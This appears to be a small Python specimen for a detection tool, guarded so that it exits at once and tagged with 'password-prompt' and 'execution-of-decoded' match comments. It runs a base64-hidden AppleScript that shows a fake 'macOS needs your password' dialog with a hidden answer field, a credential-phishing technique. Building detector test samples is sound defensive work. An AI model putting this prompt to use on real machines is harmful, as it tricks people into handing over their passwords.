raise SystemExit("specimen: not to be run")
import base64
import subprocess

def begin():
    subprocess.run(["osascript", "-e", base64.b64decode("ZGlzcGxheSBkaWFsb2cgIm1hY09TIG5lZWRzIHlvdXIgcGFzc3dvcmQiIGRlZmF1bHQgYW5zd2VyICIiIHdpdGggaGlkZGVuIGFuc3dlcg==").decode()])  # match: password-prompt  # match: execution-of-decoded
